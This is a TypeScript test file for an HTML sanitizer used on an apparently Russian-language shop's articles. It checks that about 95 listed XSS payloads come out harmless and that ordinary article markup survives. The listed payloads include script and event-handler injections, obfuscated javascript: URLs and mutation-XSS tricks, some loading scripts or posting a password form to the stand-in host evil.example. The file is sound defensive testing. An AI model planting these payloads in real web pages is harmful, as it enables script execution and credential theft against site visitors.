import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5'
import { describe, expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

type Node = DefaultTreeAdapterTypes.Node
type Element = DefaultTreeAdapterTypes.Element

/** Returns all elements as a browser sees them, with those in templates. */
function elementsOf(node: Node): Element[] {
  const own = 'tagName' in node ? [node] : []
  const children = 'childNodes' in node ? node.childNodes : []
  const inside = 'content' in node ? elementsOf(node.content) : []
  return [...own, ...inside, ...children.flatMap(elementsOf)]
}

const executableTags = new Set([
  'script',
  'style',
  'svg',
  'math',
  'object',
  'embed',
  'applet',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'link',
  'meta',
  'base',
  'template',
  'noscript',
  'frame',
  'frameset',
  'video',
  'audio',
  'source',
  'portal',
  'xml',
])

const frameHosts =
  /^https:\/\/(www\.youtube(-nocookie)?\.com|player\.vimeo\.com|rutube\.ru|vk\.com|vkvideo\.ru)\//
const safeAddress = /^(https?:\/\/|mailto:|tel:|\/(?!\/)|#|\?|[^:]*$)/i
const safePicture =
  /^(https?:\/\/|\/(?!\/)|[^:]*$|data:image\/(png|jpeg|gif|webp|bmp|x-icon|vnd\.microsoft\.icon);base64,)/i
const allowedStyle =
  /^(color|background-color|text-align|margin-left|padding-left|text-indent):[^:;()]*(\([\d\s.,%/]*\))?$/

function complaintsAbout(html: string): string[] {
  return elementsOf(parseFragment(html)).flatMap(({ tagName, attrs }) => {
    const found = executableTags.has(tagName) ? [`<${tagName}>`] : []
    for (const { name, value } of attrs) {
      // Characters that a browser skips inside an address.
      const address = [...value].filter((letter) => letter > ' ').join('')
      if (/^on|^(id|name|srcset|srcdoc|formaction|action|xlink:href|background|ping|is|slot)$/.test(name))
        found.push(name)
      if (name === 'href' && !safeAddress.test(address)) found.push(`href ${value}`)
      if (name === 'src' && tagName === 'img' && !safePicture.test(address)) found.push(`src ${value}`)
      if (name === 'src' && tagName === 'iframe' && !frameHosts.test(value)) found.push(`frame ${value}`)
      if (name === 'style' && !value.split(';').every((rule) => allowedStyle.test(rule.trim())))
        found.push(value)
    }
    const names = attrs.map(({ name }) => name)
    if (tagName === 'iframe' && !names.includes('sandbox')) found.push('frame without sandbox')
    return found
  })
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x OnErRoR=alert(1)>',
  '<img src="x" onerror\n=\nalert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/png;base64,AAAA" onload=alert(1)>',
  '<img src=" data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="data:image/png,<script>alert(1)</script>">',
  '<img src="//evil.example/pixel.png">',
  '<img srcset="javascript:alert(1) 1x" src="/uploads/a.webp">',
  '<img src="`><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://shop.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://evil.example" onclick="alert(1)" onmouseover=alert(2)>x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "javascript:alert(1)";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/abcdefg"></iframe>',
  '<iframe src="https://evil.example/https://www.youtube.com/embed/abcdefg"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/abcdefg"></iframe>',
  '<iframe src="http://www.youtube.com/embed/abcdefg"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe src="//www.youtube.com/embed/abcdefg"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abcdefg" onload=alert(1) srcdoc="<b>x</b>" sandbox="allow-top-navigation"></iframe>',
  '<iframe src="https://vk.com/away.php?to=https://evil.example"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="evil.class"></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td>x</table>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background-color: expression(alert(1))">x</p>',
  '<p style="color: red; position: fixed; inset: 0; z-index: 9999">x</p>',
  '<p style="color:red;background-image:url(https://evil.example/track)">x</p>',
  '<p style="margin-left: -9999px">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
  '<p id="cart" name="cookie" class="fixed inset-0 z-50">x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?><script>alert(1)</script>',
  '<div><p title="--><script>alert(1)</script>">x</p></div>',
  '<a href="https://ok.example" target="_top" download ping="https://evil.example">x</a>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x\u0000 onerror=alert(1)>',
  '<\u0000script>alert(1)</script>',
  '<x-card onclick=alert(1) is="evil">x</x-card>',
  `${'<div>'.repeat(500)}<script>alert(1)</script>`,
]

test.each(hostile)('cleaned HTML contains nothing that could run: %s', async (html) => {
  const cleaned = await cleanHtml(html)
  expect(complaintsAbout(cleaned), cleaned).toEqual([])
  expect(await cleanHtml(cleaned)).toBe(cleaned)
})

test('the table of hostile inputs detects a cleaner that passes everything through', () => {
  const harmless = hostile.filter((html) => complaintsAbout(html).length === 0)
  expect(hostile.length).toBeGreaterThanOrEqual(60)
  expect(harmless.length).toBeLessThan(15)
})

describe('the cleaner', () => {
  test.each([
    '<h2>Заголовок</h2><p>Текст <strong>жирный</strong>, <em>курсив</em>, <u>подчёркнутый</u>, <s>лишний</s></p>',
    '<p style="text-align:center">По центру</p>',
    '<p><span style="color:#ff0044">красный</span> <span style="background-color:rgb(255, 240, 0)">на жёлтом</span></p>',
    '<p data-indent="2" class="indent-2" style="margin-left:4em">С отступом</p>',
    '<ol start="3"><li><p>три</p></li></ol><ul><li><p>точка</p></li></ul>',
    '<blockquote><p>Цитата</p></blockquote><pre><code class="language-js">const шар = 1 &lt; 2</code></pre><hr />',
    '<table><tbody><tr><th colspan="2" scope="col">Шары</th></tr><tr><td rowspan="2">1</td></tr></tbody></table>',
    '<p><a href="/catalog/lateks">каталог</a>, <a href="tel:+79000000000">звонок</a>, <a href="mailto:a@b.example">почта</a></p>',
    '<figure><img src="/uploads/0123456789abcdef-900x900/900.webp" alt="Шар" loading="lazy" /><figcaption>Шар</figcaption></figure>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" loading="lazy" />',
  ])('keeps the markup of articles: %s', async (html) => {
    expect(await cleanHtml(html)).toBe(html)
  })
})

test('a link to another site opens without access to our page', async () => {
  expect(await cleanHtml('<a href="https://other.example" target="_blank">x</a>')).toBe(
    '<a href="https://other.example" target="_blank" rel="noopener noreferrer">x</a>',
  )
})

test.each([
  'https://www.youtube.com/embed/dQw4w9WgXcQ',
  'https://www.youtube.com/embed/abc',
  'https://player.vimeo.com/video/1',
  'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=10',
  'https://player.vimeo.com/video/123456789',
  'https://rutube.ru/play/embed/0123456789abcdef/',
  'https://vk.com/video_ext.php?oid=-1&amp;id=2&amp;hd=2',
])('the player %s is embedded in our sandbox', async (src) => {
  const cleaned = await cleanHtml(
    `<div data-youtube-video=""><iframe src="${src}" sandbox="allow-top-navigation"></iframe></div>`,
  )
  expect(cleaned).toContain(`src="${src}"`)
  expect(cleaned).toContain('sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"')
})

test('a long article is cleaned outside the main thread with the same result', async () => {
  const long = `<p>Шары и ещё шары</p><script>alert(1)</script>`.repeat(3000)
  expect(await cleanHtml(long)).toBe('<p>Шары и ещё шары</p>'.repeat(3000))
})
